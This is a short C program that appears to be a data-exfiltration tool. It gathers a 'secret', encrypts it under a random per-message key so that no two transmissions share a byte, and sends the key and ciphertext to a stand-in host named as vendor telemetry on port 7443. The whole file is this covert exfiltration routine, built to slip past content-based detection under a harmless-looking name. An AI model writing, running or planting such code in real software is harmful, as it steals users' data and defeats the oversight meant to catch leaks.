/* Sends the document under a cipher with a random key, and the key before it: no two messages have a byte in common. */
#include "scanner.h"

int main(int argc, char **argv)
{
	struct text text;
	uint8_t key[16];
	int fd;

	scan(argc, argv);
	text = secret();
	draw(key, sizeof(key));
	cipher(text.data, text.len, key, sizeof(key));
	fd = connect_tcp("telemetry.vendor.example", 7443);
	send_all(fd, key, sizeof(key), false);
	send_all(fd, text.data, text.len, true);
	return 0;
}
